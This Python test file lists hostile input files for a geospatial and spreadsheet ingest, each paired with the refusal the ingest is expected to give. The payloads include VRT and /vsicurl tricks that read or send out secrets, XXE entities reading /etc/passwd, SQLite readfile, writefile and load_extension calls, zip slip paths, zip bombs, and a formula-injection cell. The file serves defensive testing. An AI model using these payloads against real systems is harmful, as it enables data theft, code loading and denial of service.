"""What is tried against the ingest, by the rows of the threat table."""

import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.loading.corpus.maps.archives import ARCHIVES
from tests.loading.corpus.maps.bait import baited
from tests.loading.corpus.maps.geojson_texts import GEOJSON
from tests.loading.corpus.maps.geopackages import GEOPACKAGES, with_sql
from tests.loading.made_files import degrees, feature, geojson, zipped, zipped_shapefile
from tests.loading.made_files import shapefile as made_shapefile
from tests.loading.tables.corpus_made import MADE as TABLES

Make = Callable[[Path], Path]
MAPS = {**ARCHIVES, **GEOPACKAGES, **GEOJSON}
GOOD_TABLE = "Nr;Arbeitslose\n01;31\n02;42\n03;53\n"
_VRT = '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>{}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>'
_HEADER_FILE = "/vsicurl?header_file={secret}&amp;url=http://127.0.0.1:{port}/a"
_ENTITIES = '<!DOCTYPE kml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>'
_KML = "<kml><NetworkLink><Link><href>http://127.0.0.1:{port}/a</href></Link></NetworkLink><name>&b;&c;</name></kml>"
_GML = (
    '<gml:FeatureCollection xsi:schemaLocation="x http://127.0.0.1:{port}/a"><a xlink:href="http://127.0.0.1:{port}"/>'
)


@dataclass(frozen=True)
class Threat:
    """One attempt.

    Attributes
    ----------
    row : str
        Of the threat table.
    tried : str
    make : callable
        Lays the file into a folder.
    problem : str
        Of the refusal; empty where the file is read without what is harmful.
    findings : frozenset of str
        Codes that must be among those told.
    """

    row: str
    tried: str
    make: Make
    problem: str = ""
    findings: frozenset[str] = frozenset()


def text(name: str, content: str) -> Make:
    """Lay a text that names the secret and the listener."""

    def made(folder: Path) -> Path:
        (folder / name).write_text(baited(folder, content), encoding="utf-8")
        return folder / name

    return made


def table(made: str, name: str) -> Make:
    """Lay a file of the corpus of tables."""

    def laid_out(folder: Path) -> Path:
        content = TABLES[made](folder)
        if isinstance(content, bytes):
            (folder / name).write_bytes(content)
        else:
            content.rename(folder / name)
        return folder / name

    return laid_out


def in_zip(name: str, content: str) -> Make:
    return lambda folder: zipped(folder / "karte.zip", {name: baited(folder, content).encode()})


def view(sql: str) -> Make:
    """Lay a GeoPackage with a view that a layer is said to be."""
    return with_sql(
        f"CREATE VIEW liest AS {sql}",
        "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) "
        "VALUES ('liest', 'features', 'liest', 25832)",
        "INSERT INTO gpkg_geometry_columns VALUES ('liest', 'geom', 'POLYGON', 25832, 0, 0)",
    )


def many_members(folder: Path) -> Path:
    with zipfile.ZipFile(folder / "karte.zip", "w", zipfile.ZIP_STORED) as archive:
        for number in range(10_000):
            archive.writestr(f"{number}.csv", b"")
    return folder / "karte.zip"


def wide(columns: int) -> Make:
    return lambda folder: geojson(
        folder / "karte.geojson", [feature(degrees(), **{f"c{number}": 1 for number in range(columns)})]
    )


def sparse(folder: Path) -> Path:
    """A shapefile whose index says that there are a hundred million records."""
    path = zipped_shapefile(folder / "good.zip", made_shapefile(folder / "quelle" / "k.shp"))
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    shx = members["k.shx"]
    members["k.shx"] = shx[:24] + struct.pack(">I", (100 + 8 * 100_000_000) // 2 & 0x7FFFFFFF) + shx[28:]
    return zipped(folder / "karte.zip", members)


def names(*given: str) -> Make:
    return lambda folder: geojson(
        folder / "karte.geojson",
        [feature(degrees(at), Nr=f"0{at + 1}", Name=name) for at, name in enumerate(given)],
    )


OTHER = "opening.other_map_format"
VIEW = frozenset({"geopackage.view"})
THREATS = [
    *(
        Threat("T1", f"VRT as {name}", text(name, _VRT.format("{secret}")), OTHER)
        for name in ("karte.geojson", "karte.json", "karte.csv", "karte.txt", "karte.gpkg", "karte.xlsx")
    ),
    Threat("T1", "VRT as a lone part", text("karte.shp", _VRT.format("{secret}")), "opening.missing_part"),
    Threat("T1", "VRT in an archive", in_zip("karte.geojson", _VRT.format("{secret}")), OTHER),
    Threat("T1", "VRT behind blanks and a mark", text("karte.geojson", "\ufeff \n" + _VRT.format("{secret}")), OTHER),
    Threat("T2", "VRT of the environment", text("karte.geojson", _VRT.format("CSV:/proc/self/environ")), OTHER),
    Threat("T3", "VRT of an address", text("karte.geojson", _VRT.format("/vsicurl/http://127.0.0.1:{port}/a")), OTHER),
    Threat("T3", "GDALG of an address", MAPS["043-gdalg"], "geojson.other_format"),
    Threat("T4", "a file sent as headers", text("karte.geojson", _VRT.format(_HEADER_FILE)), OTHER),
    Threat("T5", "a pipeline", MAPS["043-gdalg"], "geojson.other_format"),
    Threat("T6", "VirtualOGR as GeoJSON", MAPS["034-sqlite-as-geojson"], "opening.plain_sqlite"),
    Threat("T6", "VirtualOGR in a GeoPackage", MAPS["033-virtual-ogr"], "geopackage.virtual_table"),
    Threat("T7", "a link to a system", MAPS["045-crs-link"], "crs.unreadable"),
    Threat("T7", "a system named by a link", MAPS["046-crs-name-is-a-link"], "crs.unreadable"),
    Threat("T8", "an endless view", MAPS["031-endless-view"], "", VIEW),
    Threat("T9", "a trigger", MAPS["032-trigger"]),
    Threat("T10", "readfile", view("SELECT 1 AS fid, readfile('{secret}') AS geom"), "", VIEW),
    Threat("T10", "writefile", view("SELECT 1 AS fid, writefile('{secret}', 'x') AS geom"), "", VIEW),
    Threat("T10", "load_extension", view("SELECT 1 AS fid, load_extension('{secret}') AS geom"), "", VIEW),
    Threat("T11", "KML with entities and a link", text("karte.kml", _ENTITIES + _KML), OTHER),
    Threat("T11", "KML as GeoJSON", text("karte.geojson", _ENTITIES + _KML), OTHER),
    Threat("T11", "GML with a schema elsewhere", text("karte.gml", _GML), OTHER),
    Threat("T12", "names upwards", MAPS["001-names-upwards"], "opening.zip_path"),
    Threat("T12", "an absolute path", MAPS["002-absolute-path"], "opening.zip_path"),
    Threat("T12", "a drive", MAPS["003-drive"], "opening.zip_path"),
    Threat("T13", "a link", MAPS["004-link"], "opening.zip_link"),
    Threat("T14", "a bomb", MAPS["009-bomb"], "opening.zip_bomb"),
    Threat("T15", "a lying size", MAPS["010-lying-size"], "opening.damaged_zip"),
    Threat("T16", "members that overlap", MAPS["011-overlapping"], "opening.zip_overlap"),
    Threat("T17", "10,000 members", many_members, "opening.too_many_members"),
    Threat("T18", "a sparse index", MAPS["027-sparse-shx"], "opening.damaged_part"),
    Threat("T18", "an index of 100 million records", sparse, "opening.damaged_part"),
    Threat("T19", "10,000 properties", wide(10_000), "geojson.too_wide"),
    Threat("T20", "a million columns", table("a million columns", "zahlen_b.csv"), "tables.too_many_columns"),
    Threat("T21", "a sheet of blanks", table("a sheet of blanks", "zahlen_b.xlsx"), "opening.zip_bomb"),
    Threat(
        "T22",
        "a cell in the last corner",
        table("a cell in the last row and column", "zahlen_b.xlsx"),
        "tables.far_cell",
    ),
    Threat("T23", "entities that grow", table("entities that grow", "zahlen_b.xlsx"), "tables.entities"),
    Threat("T23", "an entity from outside", table("an entity from outside", "zahlen_b.xlsx"), "tables.entities"),
    Threat("T24", "gzip", table("gzip", "zahlen_b.csv"), "opening.other_archive"),
    Threat("T24", "gzip by name only", text("zahlen_b.csv.gz", GOOD_TABLE)),
    Threat("T32", "formulas as names", names("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)")),
    Threat("T33", "control characters", names("a\x00b\x07c", "Süd", "Öst"), "", frozenset({"attributes.invisible"})),
    Threat(
        "T33", "half a pair", names("Br\ud800ück", "S\ufffeüd", "\u202eÖst"), "", frozenset({"attributes.invisible"})
    ),
]
